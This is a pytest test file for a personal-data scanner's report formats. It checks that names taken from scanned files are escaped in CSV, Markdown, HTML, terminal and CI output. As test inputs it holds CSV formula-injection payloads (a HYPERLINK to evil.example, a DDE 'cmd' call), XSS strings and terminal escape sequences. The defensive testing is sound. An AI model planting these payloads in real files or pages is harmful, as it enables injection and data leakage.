"""Texts from scanned files reach spreadsheets, Markdown, HTML, terminals and CI logs as written, never as
formulas, markup, links or escape sequences; and every label the reports use exists in every language."""

from __future__ import annotations

import csv
import io
import json
import re
from html.parser import HTMLParser
from pathlib import Path
from typing import ClassVar

import pytest
import yaml
from markdown_it import MarkdownIt
from support.command import run_pdscan
from support.report_factory import report, verdict

from pdscan.formats import FORMATS, INVENTORY_FORMATS
from pdscan.formats.csv import CsvFormat
from pdscan.formats.html import HtmlFormat
from pdscan.formats.interface import FormatOptions
from pdscan.formats.markdown import MarkdownFormat
from pdscan.formats.wording import Wording, languages
from pdscan.model import SourceKind, VerdictKind
from pdscan.policy import load_policy

HOSTILE = (
    '=HYPERLINK("https://evil.example/?"&A1)',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTAB",
    "\rCR",
)


def wording(lang: str = "en") -> Wording:
    return Wording.build(load_policy(), lang)


def hostile_report() -> object:
    return report(
        tuple(
            verdict(name, "user.contact.email", "email", VerdictKind.UNDECLARED, table="users", fingerprint=f"{i:016x}")
            for i, name in enumerate(HOSTILE)
        )
    )


def test_csv_cells_that_a_spreadsheet_would_run_are_made_text() -> None:
    text = CsvFormat(FormatOptions(wording())).format(hostile_report())
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    columns = {row[3] for row in rows[1:]}
    assert columns == {"'" + name for name in HOSTILE if name != "\rCR"} | {"␍CR"}  # shown, not a line break
    for row in rows[1:]:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
    explanation = rows[1][13]
    assert explanation.startswith("`users."), "cells that do not start like a formula are left as written"


def test_markdown_shows_names_as_written_and_never_as_markup() -> None:
    odd = ("a|b", "*bold*", "_x_", "[link](https://evil.example)", "<img src=x>", "back\\slash")
    built = report(
        tuple(
            verdict(name, "user.contact.email", "email", VerdictKind.UNDECLARED, fingerprint=f"{i:016x}")
            for i, name in enumerate(odd)
        )
    )
    tokens = MarkdownIt("commonmark").enable("table").parse(MarkdownFormat(FormatOptions(wording())).format(built))
    cells = [tokens[i + 1] for i, t in enumerate(tokens) if t.type == "td_open"]
    shown = ["".join(child.content for child in cell.children or []) for cell in cells]
    places = {text for text in shown if text.startswith("customers.")}
    assert places == {f"customers.{name}" for name in odd}
    inline_types = {child.type for cell in cells for child in cell.children or []}
    assert inline_types <= {"text", "code_inline", "softbreak"}, "no emphasis, link or raw HTML"


def test_html_escapes_everything_from_scanned_files() -> None:
    built = report(
        (
            verdict("<script>alert(1)</script>", "user.contact.email", "email", VerdictKind.UNDECLARED),
            verdict("x", "user.contact.email", "email", VerdictKind.OK, table='t"><img src=x onerror=alert(1)>'),
        )
    )
    page = HtmlFormat(FormatOptions(wording())).format(built)

    class Tags(HTMLParser):
        found: ClassVar[list[str]] = []

        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            self.found.append(tag)

    parser = Tags()
    parser.feed(page)
    assert "script" not in parser.found and "img" not in parser.found
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page.replace("<wbr>", "")  # breaks allowed after `/`


def test_a_log_finding_without_a_field_is_free_text_in_the_reader_s_language() -> None:
    free = verdict(None, "user.contact.email", "email", VerdictKind.UNDECLARED, source_kind=SourceKind.LOG,
                   table=None, source="app.log", database="app.log", line=None)  # fmt: skip
    assert "app.log: (free text)" in MarkdownFormat(FormatOptions(wording())).format(report((free,)))
    page = HtmlFormat(FormatOptions(wording("ru"))).format(report((free,)))
    assert "app.log: (свободный текст)" in page.replace("<wbr>", "")  # the page may wrap after `.` and `:`


def test_every_label_exists_in_every_language() -> None:
    from importlib.resources import files

    document = yaml.safe_load((files("pdscan.rules") / "labels.yaml").read_text("utf-8"))
    assert languages() == ("en", "ru")
    for key, texts in document["labels"].items():
        assert set(texts) == set(languages()), f"{key}: {texts}"
        assert all(isinstance(text, str) and text.strip() for text in texts.values()), key


@pytest.mark.parametrize("lang", ["en", "ru"])
def test_every_verdict_kind_and_status_has_words(lang: str) -> None:
    words = wording(lang)
    for kind in VerdictKind:
        assert words.verdict(kind)
    for kind in SourceKind:
        assert words(f"kind.{kind.value}")
    for status in ("scanned", "partial", "skipped"):
        assert words(f"status.{status}")
    assert words.category_title("email") == ("Адрес электронной почты" if lang == "ru" else "E-mail address")
    assert words.clause_words("email") == "д) Адрес электронный почты", "the clause is quoted, never translated"


def test_an_unknown_language_is_refused() -> None:
    with pytest.raises(KeyError):
        wording("fr")


TERMINAL_ESCAPES = ("\x1b]0;owned\x07", "\x1b[2J", "\x9b31m", "\x08\x08back")


@pytest.mark.parametrize("arguments", [("--no-color",), ("--color",), ("--format", "github")])
def test_terminal_escapes_in_scanned_names_are_shown_not_run(tmp_path: Path, arguments: tuple[str, ...]) -> None:
    """A table, column or file name may carry escapes that would retitle or clear the terminal
    or hide lines of a CI log; they are printed as visible characters (`␛`) instead."""
    names = [f'"t{index}{escape}users"' for index, escape in enumerate(TERMINAL_ESCAPES)]
    ddl = "".join(f"CREATE TABLE {name} (email text);\n" for name in names)
    (tmp_path / "schema\x1b[8m.sql").write_text(ddl)
    (tmp_path / "bad\x1b]0;x\x07.log").write_bytes(b"\x00\x01binary")
    result = run_pdscan("scan", str(tmp_path), *arguments)
    assert result.returncode == 1, result.stderr
    for stream in (result.stdout, result.stderr):
        without_colours = re.sub("\x1b\\[[0-9;]*m", "", stream)  # rich's own colours, when asked for
        assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", without_colours), repr(stream)
    assert "t1␛[2Jusers" in result.stdout  # shown, so the reader sees something odd is there
    assert "bad␛]0;x␇.log" in result.stderr  # the skipped file's name in its message


# ESC, BEL, a cursor move and a screen clear (CSI), a title change (OSC), the one-byte C1 CSI,
# DEL, a backspace: in table, column and file names and in a log's field key.
CONTROLS = ("\x1b]0;pwned\x07", "\x1b[2J", "\x1b[1;1H", "\x9b31m", "\x7f", "\x08")
MACHINE_FORMATS = ("json", "ndjson", "sarif", "fides", "baseline")
# Files written by commands other than scan and inventory: the starter data map, the baseline.
FILES = {"init": "yaml", "baseline": "baseline"}
RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")


@pytest.mark.parametrize(
    "command_and_format",
    [("scan", name) for name in [*FORMATS, "ndjson"]]
    + [("inventory", name) for name in INVENTORY_FORMATS]
    + list(FILES.items()),
    ids="-".join,
)
def test_no_raw_control_character_reaches_a_report_file(tmp_path: Path, command_and_format: tuple[str, str]) -> None:
    """`cat report.md` must not retitle or clear the terminal: every output, written to a file,
    shows control characters from scanned files as visible ones (`␛`)."""
    command, name = command_and_format
    scanned = tmp_path / "scanned"
    scanned.mkdir()
    ddl = "".join(
        f'CREATE TABLE "t{index}{control}users" ("e{control}mail" text, phone text);\n'
        for index, control in enumerate(CONTROLS)
    )
    (scanned / "schema\x1b[8m.sql").write_text(ddl)
    keys = "".join(
        json.dumps({f"contact{control}email": f"person{index}@example.com"}) + "\n"
        for index, control in enumerate(CONTROLS)
    )
    (scanned / "app\x1b]0;x\x07.log").write_text(keys)
    output = tmp_path / f"report.{name}"
    chosen = [] if command in FILES else ["--format", name]
    result = run_pdscan(command, str(scanned), *chosen, "--output", str(output), "--quiet")
    assert result.returncode in (0, 1), result.stderr
    written = output.read_text(encoding="utf-8")
    if name == "csv":
        written = written.replace("\r\n", "\n")  # RFC 4180's line ends
    assert not RAW_CONTROL.search(written), RAW_CONTROL.findall(written)
    if command == "init":  # names keep their exact spelling, so the starter map declares them
        assert '"t0\\u001b]0;pwned\\u0007users":' in written
        declared = run_pdscan("scan", str(scanned), "--config", str(output), "--format", "json", "--quiet")
        assert declared.returncode == 1, declared.stderr  # loads; its `purposes: []` are for people to fill
    elif name in MACHINE_FORMATS:  # the name exactly as the database has it, in the format's own escapes
        assert "\\u001b[2J" in written or "\\e[2J" in written
    else:  # shown, so the reader sees something odd is there
        assert "t1␛" in written
